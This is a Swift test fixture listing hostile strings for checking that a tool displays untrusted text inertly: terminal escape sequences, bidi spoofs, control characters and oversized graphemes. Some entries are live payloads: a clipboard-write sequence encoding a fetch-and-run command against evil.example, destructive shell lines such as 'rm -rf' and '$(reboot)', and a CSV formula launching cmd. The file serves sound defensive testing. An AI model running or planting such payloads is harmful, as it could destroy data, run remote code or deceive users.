/// Untrusted text that must show inert everywhere: escape sequences of every kind, bidi tricks,
/// controls, huge and pathological graphemes. Shared by unit tests, end-to-end tests (send them
/// through `ask`, the state file and imports) and as fuzzing seeds.
///
/// Not here, because a Swift `String` cannot hold them: lone surrogates (U+D800–U+DFFF) and
/// invalid UTF-8. Use `invalidUTF8` (raw bytes) for those, written straight into files.
public enum HostileStrings {
    private static let esc = "\u{1B}"
    private static let bel = "\u{07}"
    private static let st = "\u{1B}\\"

    /// At least 40 hostile strings, each with a short label in `named`.
    public static let all: [String] = named.map(\.text)

    /// The hostile strings with what each one tries.
    public static let named: [(name: String, text: String)] = [
        ("CSI clear screen", "\(esc)[2J\(esc)[HQuestion?"),
        ("CSI colours and bold left on", "\(esc)[31;1;5mred blinking\(esc)[0"),
        ("CSI cursor movement", "ok\(esc)[10A\(esc)[5Cmoved"),
        ("CSI hide cursor", "\(esc)[?25lno cursor"),
        ("CSI alternate screen off", "\(esc)[?1049lbye screen"),
        ("CSI scroll region", "\(esc)[1;3rregion"),
        ("OSC 0 title, BEL", "\(esc)]0;pwned title\(bel)after"),
        ("OSC 2 title, ST", "\(esc)]2;pwned title\(st)after"),
        ("OSC 52 clipboard write", "\(esc)]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\(bel)copy me"),
        ("OSC 52 clipboard read request", "\(esc)]52;c;?\(bel)"),
        ("OSC 8 hyperlink", "\(esc)]8;;https://evil.example/\(st)click here\(esc)]8;;\(st)"),
        ("OSC 4 palette change", "\(esc)]4;1;rgb:00/00/00\(bel)"),
        ("OSC 7 cwd", "\(esc)]7;file:///etc\(bel)"),
        ("DCS", "\(esc)Pq#0;2;0;0;0#0~~\(st)sixel"),
        ("DECRQSS request (answers)", "\(esc)P$qm\(st)"),
        ("tmux passthrough DCS", "\(esc)Ptmux;\(esc)\(esc)]0;title\(bel)\(st)"),
        ("APC", "\(esc)_Gf=100;AAAA\(st)kitty graphics"),
        ("PM", "\(esc)^private message\(st)"),
        ("SOS", "\(esc)Xstart of string\(st)"),
        ("8-bit CSI U+009B", "\u{9B}2J\u{9B}31mred"),
        ("8-bit OSC U+009D", "\u{9D}0;pwned\u{9C}"),
        ("8-bit DCS APC PM SOS ST", "\u{90}x\u{9C}\u{9F}y\u{9C}\u{9E}z\u{9C}\u{98}w\u{9C}"),
        ("NEL and other C1", "line\u{85}next\u{84}\u{8D}\u{8E}\u{8F}"),
        ("DA primary request (answers)", "\(esc)[c"),
        ("DA secondary request (answers)", "\(esc)[>c"),
        ("cursor position request (answers)", "\(esc)[6n"),
        ("window title report request (answers)", "\(esc)[21t"),
        ("ENQ answerback", "\u{05}answerback"),
        ("BEL storm", String(repeating: bel, count: 50)),
        ("backspace overwrite", "safe text\u{08}\u{08}\u{08}\u{08}evil"),
        ("CR overwrite", "rm -rf / # harmless\rHarmless question"),
        ("CR LF and lone LF", "line one\r\nline two\nline three"),
        ("vertical tab, form feed", "a\u{0B}b\u{0C}c"),
        ("tabs", "col1\tcol2\t\tcol3"),
        ("NUL", "before\u{00}after"),
        ("DEL", "del\u{7F}\u{7F}eted"),
        ("SI/SO charset switch", "\u{0E}graphics\u{0F}"),
        ("ESC ( 0 line graphics", "\(esc)(0lqqk\(esc)(B"),
        ("RIS full reset", "\(esc)c"),
        ("DECSC/DECRC", "\(esc)7saved\(esc)8"),
        ("bidi override U+202E", "file\u{202E}gnp.exe"),
        ("bidi embeddings", "\u{202A}ltr\u{202B}rtl\u{202C}\u{202D}over\u{202C}"),
        ("bidi isolates", "\u{2066}a\u{2067}b\u{2068}c\u{2069}"),
        ("bidi marks", "\u{200E}\u{200F}\u{061C}marks"),
        ("line and paragraph separators", "one\u{2028}two\u{2029}three"),
        ("interlinear annotation", "\u{FFF9}base\u{FFFA}ruby\u{FFFB}"),
        ("zero-width joiners galore", String(repeating: "\u{200D}", count: 500) + "👨" + String(repeating: "\u{200D}👩", count: 200)),
        ("zero-width spaces", String(repeating: "\u{200B}\u{2060}\u{FEFF}", count: 300)),
        ("zalgo tower", "Z" + String(repeating: "\u{0301}\u{0316}\u{0334}\u{0360}", count: 250) + "algo"),
        ("lone combining marks", "\u{0301}\u{20DD}\u{0334}start"),
        ("10,000-character line", String(repeating: "長い質問です、", count: 1_429) + "end"),
        ("10,000 ASCII, no spaces", String(repeating: "x", count: 10_000)),
        ("10,000 spaces", String(repeating: " ", count: 10_000)),
        ("regional indicator run", String(repeating: "\u{1F1EF}", count: 101)),
        ("skin tones alone", "\u{1F3FD}\u{1F3FB}\u{1F3FF}"),
        ("variation selectors alone", "\u{FE0F}\u{FE0E}\u{FE0F}"),
        ("keycaps and tags", "1\u{FE0F}\u{20E3}#\u{FE0F}\u{20E3}\u{1F3F4}\u{E0067}\u{E0062}\u{E0073}\u{E0063}\u{E0074}\u{E007F}"),
        ("Hangul fillers", "\u{115F}\u{1160}\u{3164}\u{FFA0}"),
        ("noncharacters and private use", "\u{FFFE}\u{FFFF}\u{E000}\u{10FFFD}"),
        ("replacement characters", "\u{FFFD}\u{FFFD}"),
        ("CSV formula", "=HYPERLINK(\"https://evil.example\",\"click\")"),
        ("CSV formula after spaces", "  +cmd|' /C calc'!A0"),
        ("CSV formula minus and at", "-2+3\n@SUM(A1:A9)"),
        ("CSV quotes and commas", "\"quoted\", with, commas\""),
        ("YAML/JSON breakers", "\"}], \"x\": 1, --- !!python/object"),
        ("shell metacharacters", "$(reboot) `id` ; rm -rf ~ && echo $HOME"),
        ("mixed everything", "日本語\(esc)]0;t\(bel)👨‍👩‍👧\u{202E}❤️\u{0}\t\r\n\u{9B}m"),
    ]

    /// Byte sequences that are not valid UTF-8 (write them straight into files).
    public static let invalidUTF8: [[UInt8]] = [
        [0xFF, 0xFE, 0x41],                       // not UTF-8 at all
        [0xC3],                                   // truncated sequence
        [0xE3, 0x81],                             // truncated kana
        [0xC0, 0xAF],                             // overlong "/"
        [0xED, 0xA0, 0x80],                       // encoded lone surrogate U+D800
        [0xF4, 0x90, 0x80, 0x80],                 // above U+10FFFF
        [0x80, 0x9B, 0x32, 0x4A],                 // bare continuation bytes, raw 8-bit CSI
        [0x1B, 0x5B, 0x32, 0x4A, 0xC3, 0x28],     // ESC[2J then invalid
        [0xC2, 0x9B, 0x32, 0x4A],                 // valid UTF-8 of U+009B (8-bit CSI)
    ]
}
